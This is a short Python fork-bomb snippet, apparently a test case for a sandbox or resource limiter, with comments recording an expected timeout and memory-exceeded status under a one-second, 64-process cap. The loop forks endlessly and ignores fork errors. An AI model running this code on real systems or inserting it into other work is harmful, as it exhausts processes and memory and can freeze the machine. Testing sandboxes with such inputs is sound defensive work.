# Forks without end; every child does the same.
# status: timeout memory_exceeded
# limits: wall_seconds=1 processes=64
while True:
    try:
        os.fork()
    except OSError:
        pass
